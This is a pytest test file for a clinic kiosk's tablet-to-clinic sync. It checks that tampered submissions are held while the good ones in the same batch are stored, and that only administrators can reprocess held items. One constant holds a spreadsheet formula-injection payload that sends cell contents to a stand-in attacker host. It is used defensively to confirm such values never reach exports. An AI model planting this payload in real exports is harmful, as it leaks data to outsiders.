"""One bad submission never stalls the rest: each submission in a batch is judged
alone, a bad one is held at the clinic with its reason (the tablet gets a receipt and
lets it go), and an administrator sees held submissions and re-processes them after a
fix, from the staff API and the command line. A real enrolled tablet syncs to a real
clinic over HTTPS on 127.0.0.1, on SQLite and PostgreSQL."""

from __future__ import annotations

import shutil
import ssl
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from sqlalchemy import func, select

from kiosk.cli.demo_patients import DEMO_LICENCES, DEMO_PATIENTS, DemoTablet
from kiosk.cli.main import main
from kiosk.clinic.models import AuditEntry, HeldSubmission, Response, Submission
from kiosk.clinic.service import ClinicService
from kiosk.clinic.setup import RunningServer, init_clinic, open_service, serve_in_thread
from kiosk.clinic.tls import CERT_FILE
from kiosk.console.client import BadRequest, Forbidden, StaffClient
from kiosk.engine import FormLibrary
from kiosk.journey.journey import LANGUAGE_RECORD, LINK_RECORD

pytestmark = pytest.mark.clinic
FORMS = Path(__file__).resolve().parents[2] / "forms"
PASSPHRASE = b"a clinic passphrase for tests"
PASSWORD = "a long staff password"
URGENT, WANTS_HELP = DEMO_PATIENTS[0], DEMO_PATIENTS[1]
NOT_AN_OPTION = {"what_matters": {"main_concern": "x", "questions_to_ask": ["no_such_code"]}}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass
class Clinic:
    service: ClinicService
    running: RunningServer
    folder: Path
    forms: Path  # the clinic's own forms folder, which a test may fix
    database_url: str
    tablet: DemoTablet

    def staff(self, username: str) -> StaffClient:
        client = StaffClient(self.running.url, certificate=self.folder / CERT_FILE)
        client.sign_in(username, PASSWORD)
        return client

    def held(self) -> list[HeldSubmission]:
        with self.service.transaction() as db:
            return list(db.scalars(select(HeldSubmission).order_by(HeldSubmission.id)))

    def stored(self) -> set[str]:
        with self.service.transaction() as db:
            return set(db.scalars(select(Submission.id)))

    def audit(self, action: str, target: str | None = None) -> list[AuditEntry]:
        query = select(AuditEntry).where(AuditEntry.action == action)
        if target is not None:
            query = query.where(AuditEntry.target == target)
        with self.service.transaction() as db:
            return list(db.scalars(query.order_by(AuditEntry.id)))


@pytest.fixture
def clinic(tmp_path: Path, database_url: str) -> Iterator[Clinic]:
    folder = tmp_path / "clinic"
    init_clinic(folder, PASSPHRASE, ["127.0.0.1"])
    forms = tmp_path / "clinic-forms"
    shutil.copytree(FORMS, forms)
    service = open_service(folder, PASSPHRASE, database_url, [forms])
    for username, role in (("admin", "administrator"), ("clinician", "clinician")):
        service.staff.add(username, role, PASSWORD, "user:setup")
    running = serve_in_thread(service, folder)
    tablet = DemoTablet.enrol(
        running.url, service.issue_code("user:setup"), tmp_path / "tablet", FormLibrary.load(FORMS)
    )
    yield Clinic(service, running, folder, forms, database_url, tablet)
    tablet.close()
    running.stop()
    service.engine.dispose()


def tampered_visit(
    tablet: DemoTablet,
    *,
    pathway: str = "cardiology",
    language: Any = "en",
    answers: Mapping[str, Mapping[str, Any]] | None = None,
    manifest: list[dict[str, str]] | None = None,
    summary: Any = None,
) -> str:
    """A visit sealed by a compromised tablet: its own store and keys, so the clinic opens
    it like any other, but with a pathway, language or answers the tablet's screens would
    never have allowed. Returns the submission id (queued in the outbox)."""
    forms = tablet.library.pathway_forms("cardiology", DEMO_LICENCES)
    if manifest is None:
        manifest = [{"id": f.id, "version": f.version, "hash": f.hash} for f in forms]
    session = tablet.store.start_session(pathway, manifest)
    session.record(LANGUAGE_RECORD, language)
    session.record(LINK_RECORD, {"method": "anonymous"})
    chosen = answers if answers is not None else {"social_welfare": {"feel_unsafe": "yes"}}
    for form_id, given in chosen.items():
        for item_id, value in given.items():
            session.answer(form_id, item_id, value)
    session.submit({} if summary is None else summary)
    return session.id


def flags_seen_by_staff(clinic: Clinic, sid: str) -> set[str]:
    with clinic.staff("clinician") as client:
        return {flag["id"] for flag in client.summary(sid)["flags"]}


def held_by_api(clinic: Clinic) -> list[dict[str, Any]]:
    with clinic.staff("admin") as client:
        return list(client.held())


# ---------------------------------------------------------------- one bad item in a batch


@pytest.mark.control("H-08-C7")
@pytest.mark.security
def test_a_bad_submission_between_two_good_ones_is_held_and_the_good_ones_stored(
    clinic: Clinic,
) -> None:
    good = clinic.tablet.answer(URGENT)
    bad = tampered_visit(clinic.tablet, answers=NOT_AN_OPTION)
    other = clinic.tablet.answer(WANTS_HELP)

    report = clinic.tablet.syncer.sync_once()

    assert report.ok, report.error
    assert (report.acknowledged, report.held_at_clinic) == (3, 1)
    assert clinic.tablet.store.pending() == []  # nothing left to resend
    assert clinic.stored() == {good, other}
    assert "feel_unsafe" in flags_seen_by_staff(clinic, good)
    assert "wants_help" in flags_seen_by_staff(clinic, other)
    [held] = held_by_api(clinic)
    assert held["submission_id"] == bad and held["status"] == "held"
    assert held["reason"].startswith("invalid answer: what_matters")
    assert "questions_to_ask" in held["reason"] and "no_such_code" not in held["reason"]
    assert held["device_name"] == "Demo tablet" and held["pathway"] == "cardiology"

    sent_before = len(clinic.audit("submission", bad))
    again = clinic.tablet.syncer.sync_once()
    assert again.ok and again.acknowledged == 0
    assert len(clinic.audit("submission", bad)) == sent_before  # never sent again


@pytest.mark.security
@pytest.mark.parametrize(
    ("tampering", "error"),
    [
        # the same form twice: storing it breaks a database constraint part-way through
        ("manifest", "IntegrityError"),
        # the tablet's scores are not a mapping: the clinic's own code fails on them
        ("summary", "AttributeError"),
    ],
    ids=["constraint", "bug"],
)
@pytest.mark.control("H-08-C7")
def test_a_server_error_storing_one_submission_touches_no_other(
    clinic: Clinic, tampering: str, error: str
) -> None:
    """That one item is rolled back and held with the error's type; the others are stored."""
    first = clinic.tablet.library.pathway_forms("cardiology", DEMO_LICENCES)[0]
    twice = [{"id": first.id, "version": first.version, "hash": first.hash}] * 2
    changes: dict[str, Any] = (
        {"manifest": twice, "answers": {}}
        if tampering == "manifest"
        else {"summary": ["not", "a", "summary"]}
    )
    good = clinic.tablet.answer(URGENT)
    bad = tampered_visit(clinic.tablet, **changes)
    other = clinic.tablet.answer(WANTS_HELP)

    report = clinic.tablet.syncer.sync_once()

    assert report.ok and report.acknowledged == 3 and clinic.tablet.store.pending() == []
    assert clinic.stored() == {good, other}  # no half-stored row for the bad one
    [held] = clinic.held()
    assert (held.submission_id, held.reason) == (bad, f"error: {error}")
    assert "feel_unsafe" in flags_seen_by_staff(clinic, good)


@pytest.mark.security
def test_an_id_sent_twice_in_one_batch_is_stored_once_and_both_get_its_receipt(
    clinic: Clinic,
) -> None:
    """The second copy is judged against the first, as stored: a duplicate."""
    sid = clinic.tablet.answer(URGENT)
    [item] = clinic.tablet.store.pending()

    results = clinic.tablet.syncer.client.upload([(sid, item.envelope), (sid, item.envelope)])

    assert [(r.status, r.receipt) for r in results] == [
        (201, item.envelope_hash),
        (200, item.envelope_hash),
    ]
    assert clinic.stored() == {sid}
    assert [e.outcome for e in clinic.audit("submission", sid)] == ["stored", "duplicate"]


@pytest.mark.security
@pytest.mark.parametrize("field", ["pathway", "language"])
def test_a_formula_as_pathway_or_language_is_held_and_never_exported(
    clinic: Clinic, field: str, tmp_path: Path
) -> None:
    bad = tampered_visit(clinic.tablet, **{field: FORMULA})
    good = clinic.tablet.answer(URGENT)

    report = clinic.tablet.syncer.sync_once()

    assert report.ok and report.held_at_clinic == 1
    assert clinic.stored() == {good}
    [held] = clinic.held()
    assert held.submission_id == bad
    assert held.reason.startswith(f"unknown {field}: ")
    out = tmp_path / "export.csv"
    with clinic.staff("admin") as client:
        client.export_anonymised(out, "held-test", "checking held submissions stay out")
    exported = out.read_text(encoding="utf-8")
    assert "HYPERLINK" not in exported and len(exported.splitlines()) >= 2


@pytest.mark.security
def test_a_language_that_is_not_text_is_held(clinic: Clinic) -> None:
    bad = tampered_visit(clinic.tablet, language={"code": "en"})
    clinic.tablet.syncer.sync_once()
    [held] = clinic.held()
    assert held.submission_id == bad and held.reason.startswith("unknown language: ")


def ons4_in_somali(folder: Path) -> None:
    """A newer ONS4 version that adds a language no other clinic form has (Somali)."""
    form = yaml.safe_load((FORMS / "ons4.yaml").read_text(encoding="utf-8"))

    def add(node: Any) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("en"), str):
                node["so"] = node["en"]  # a placeholder translation: the test needs the code
            for value in node.values():
                add(value)
        elif isinstance(node, list):
            for value in node:
                add(value)

    add(form)
    form["languages"]["so"], form["version"] = "draft", "9.1"
    folder.mkdir(exist_ok=True)
    (folder / "ons4-so.yaml").write_text(
        yaml.safe_dump(form, allow_unicode=True, sort_keys=False), encoding="utf-8"
    )


def somali_visit(clinic: Clinic, tmp_path: Path) -> str:
    """A tablet that has the newer ONS4 answers it in Somali."""
    ons4_in_somali(tmp_path / "tablet-forms")
    clinic.tablet.library = FormLibrary.load(FORMS, tmp_path / "tablet-forms")
    return tampered_visit(
        clinic.tablet, language="so", answers={"ons4": {"life_satisfaction": 2, "anxiety": 9}}
    )


def ons4_known(clinic: Clinic, sid: str) -> bool:
    with clinic.service.transaction() as db:
        known = db.scalar(
            select(Response.form_known).where(
                Response.submission_id == sid, Response.form_id == "ons4"
            )
        )
    return bool(known)


def test_a_language_added_with_a_form_version_is_accepted_without_a_restart(
    clinic: Clinic, tmp_path: Path
) -> None:
    ons4_in_somali(clinic.forms)  # the clinic serves it to its tablets from now on
    sid = somali_visit(clinic, tmp_path)

    report = clinic.tablet.syncer.sync_once()

    assert report.ok and report.held_at_clinic == 0
    assert clinic.stored() == {sid} and clinic.held() == []


@pytest.mark.control("H-08-C7")
def test_reprocessing_after_adding_the_missing_form_version_stores_and_scores_it(
    clinic: Clinic, tmp_path: Path
) -> None:
    sid = somali_visit(clinic, tmp_path)
    clinic.tablet.syncer.sync_once()
    [held] = held_by_api(clinic)
    assert held["reason"].startswith("unknown language: 'so'")

    ons4_in_somali(clinic.forms)
    with clinic.staff("admin") as admin:
        assert admin.reprocess_all_held() == [
            {"id": held["id"], "submission_id": sid, "outcome": "stored", "reason": None}
        ]
    assert clinic.stored() == {sid}
    # the clinic read its forms again: the new version scored it and raised its flags
    assert ons4_known(clinic, sid)
    assert {"high_anxiety", "low_life_satisfaction"} <= flags_seen_by_staff(clinic, sid)


# ---------------------------------------------------------------- administrators


def add_pathway(forms: Path, pathway: str) -> None:
    file = forms / "pathways.yaml"
    file.write_text(
        file.read_text(encoding="utf-8")
        + f"\n  - id: {pathway}\n    title: Oncology\n"
        + "    forms: [what_matters, social_welfare, ons4, about_you]\n",
        encoding="utf-8",
    )


@pytest.mark.control("H-08-C7")
def test_an_administrator_reprocesses_a_held_submission_after_adding_its_pathway(
    clinic: Clinic,
) -> None:
    sid = tampered_visit(clinic.tablet, pathway="oncology")
    clinic.tablet.syncer.sync_once()
    [held] = held_by_api(clinic)
    assert held["reason"].startswith("unknown pathway: 'oncology'")

    with clinic.staff("admin") as admin:
        still = admin.reprocess_held(held["id"])
        assert still["outcome"] == "held" and still["reason"].startswith("unknown pathway")
        add_pathway(clinic.forms, "oncology")
        done = admin.reprocess_held(held["id"])
        assert done == {"id": held["id"], "submission_id": sid, "outcome": "stored",
                        "reason": None}  # fmt: skip
        assert admin.held() == []
        [resolved] = admin.held(include_resolved=True)
    assert resolved["status"] == "resolved" and resolved["resolved_by"] == "user:admin"
    assert resolved["resolved_at"]
    assert clinic.stored() == {sid}
    assert "feel_unsafe" in flags_seen_by_staff(clinic, sid)
    assert [e.outcome for e in clinic.audit("reprocess_held", sid)] == [
        "held: unknown pathway",
        "stored",
    ]
    assert [e.actor for e in clinic.audit("read_held")] == ["user:admin"] * 3
    with clinic.staff("admin") as admin, pytest.raises(Exception, match="stored already"):
        admin.reprocess_held(held["id"])


@pytest.mark.security
def test_only_an_administrator_sees_or_reprocesses_held_submissions(clinic: Clinic) -> None:
    tampered_visit(clinic.tablet, pathway="oncology")
    clinic.tablet.syncer.sync_once()
    [row] = clinic.held()
    with clinic.staff("clinician") as clinician:
        with pytest.raises(Forbidden):
            clinician.held()
        with pytest.raises(Forbidden):
            clinician.reprocess_held(row.id)
        with pytest.raises(Forbidden):
            clinician.reprocess_all_held()
    trust = ssl.create_default_context(cafile=str(clinic.folder / CERT_FILE))
    anonymous = httpx.post(f"{clinic.running.url}/api/v1/admin/held/{row.id}/reprocess",
                           verify=trust)  # fmt: skip
    assert anonymous.status_code == 401
    assert clinic.held()[0].status == "held"
    with clinic.service.transaction() as db:
        refused = db.scalar(
            select(func.count())
            .select_from(AuditEntry)
            .where(AuditEntry.actor == "user:clinician", AuditEntry.outcome == "forbidden")
        )
    assert refused == 3


@pytest.mark.security
def test_a_held_number_out_of_range_is_refused_plainly(clinic: Clinic) -> None:
    """Not a server error: the database's integers are smaller than Python's."""
    with clinic.staff("admin") as admin:
        for held_id in ("0", "-1", str(2**31), str(10**30), "x"):
            with pytest.raises(BadRequest):
                admin._call("POST", f"/admin/held/{held_id}/reprocess")


def cli(clinic: Clinic, tmp_path: Path, *args: str) -> list[str]:
    passphrase = tmp_path / "passphrase"
    passphrase.write_bytes(PASSPHRASE)
    return [
        "clinic", "held", *args, str(clinic.folder), "--passphrase-file", str(passphrase),
        "--database", clinic.database_url,
    ]  # fmt: skip


@pytest.mark.control("H-08-C7")
def test_the_command_line_lists_and_reprocesses_held_submissions(
    clinic: Clinic, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch
) -> None:
    monkeypatch.setenv("KIOSK_FORMS_DIR", str(clinic.forms))
    first = tampered_visit(clinic.tablet, pathway="oncology")
    second = tampered_visit(clinic.tablet, answers=NOT_AN_OPTION)
    clinic.tablet.syncer.sync_once()
    ids = [row.id for row in clinic.held()]

    assert main(cli(clinic, tmp_path, "list")) == 0
    listed = capsys.readouterr().out
    assert first in listed and second in listed and "Demo tablet" in listed
    assert "unknown pathway" in listed and "invalid answer" in listed

    add_pathway(clinic.forms, "oncology")
    assert main(cli(clinic, tmp_path, "reprocess", str(ids[0]))) == 0
    assert f"{first}: stored" in capsys.readouterr().out
    assert main(cli(clinic, tmp_path, "reprocess", "--all")) == 1  # one is still held
    out = capsys.readouterr().out
    assert f"{second}: still held (invalid answer" in out
    assert clinic.stored() == {first}
    assert main(cli(clinic, tmp_path, "reprocess", "999")) == 2
    assert "no such held submission" in capsys.readouterr().err.lower()
    assert main(cli(clinic, tmp_path, "reprocess", str(10**30))) == 2
    assert "by its number" in capsys.readouterr().err
    assert {e.actor for e in clinic.audit("reprocess_held")} == {"cli"}
    assert [e.actor for e in clinic.audit("read_held")] == ["cli"]
